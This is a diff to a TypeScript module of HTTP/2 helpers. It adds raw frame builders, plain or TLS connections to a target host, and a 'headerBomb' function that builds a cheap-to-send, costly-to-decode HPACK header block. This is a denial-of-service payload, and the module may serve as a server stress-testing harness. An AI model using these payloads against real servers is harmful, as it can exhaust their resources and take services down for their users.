@@ -1,12 +1,20 @@
 import net from 'node:net';
+import tls from 'node:tls';
 
 /** Calls as bytes, made once: whoever sends them spends next to nothing on each. */
 
-const PREFACE = Buffer.concat([Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n'), frame(4, 0, 0, Buffer.alloc(0))]);
-const HEADERS = 1;
+export const DATA = 0;
+export const HEADERS = 1;
+export const SETTINGS = 4;
+export const PING = 6;
+export const CONTINUATION = 9;
 const END_HEADERS = 4;
+export const PREFACE = Buffer.concat([
+  Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n'),
+  frame(SETTINGS, 0, 0, Buffer.alloc(0)),
+]);
 
-function frame(type: number, flags: number, stream: number, body: Buffer): Buffer {
+export function frame(type: number, flags: number, stream: number, body: Buffer): Buffer {
   const head = Buffer.alloc(9);
   head.writeUIntBE(body.length, 0, 3);
   head.writeUInt8(type, 3);
@@ -49,13 +57,36 @@ export function calls(headers: Buffer, from: number, count: number): Buffer {
   );
 }
 
-/** A connection that has said its preface, and takes whatever it is sent. */
-export function rawConnection(address: string, lost: () => void): net.Socket {
-  const [host, port] = address.split(':');
-  const socket = net.connect(Number(port), host);
+/**
+ * A block of headers that takes next to nothing to send and a lot to unpack: one long header that goes into the table, and as many
+ * references to it as fit.
+ */
+export function headerBomb(longBytes: number, references: number): Buffer {
+  const long = Buffer.concat([Buffer.of(0x40), text('x-bomb'), text('b'.repeat(longBytes))]);
+  // The first place of the table after those that everybody has.
+  return Buffer.concat([statusHeaders(), long, Buffer.alloc(references, 0x80 | 62)]);
+}
+
+/** Where the port is, and the authority that its certificate is from where it speaks TLS. */
+export interface Target {
+  readonly host: string;
+  readonly port: number;
+  readonly ca: string | undefined;
+}
+
+/** A connection that has said nothing within, and takes whatever it is sent; by TLS where the port speaks it. */
+export function silentConnection({ host, port, ca }: Target, lost: () => void): net.Socket {
+  const socket =
+    ca === undefined ? net.connect(port, host) : tls.connect({ host, port, ca, ALPNProtocols: ['h2'], timeout: 0 });
   socket.on('error', () => undefined);
   socket.on('close', lost);
   socket.resume();
+  return socket;
+}
+
+/** A connection that has said its preface. */
+export function rawConnection(target: Target, lost: () => void): net.Socket {
+  const socket = silentConnection(target, lost);
   socket.write(PREFACE);
   return socket;
 }
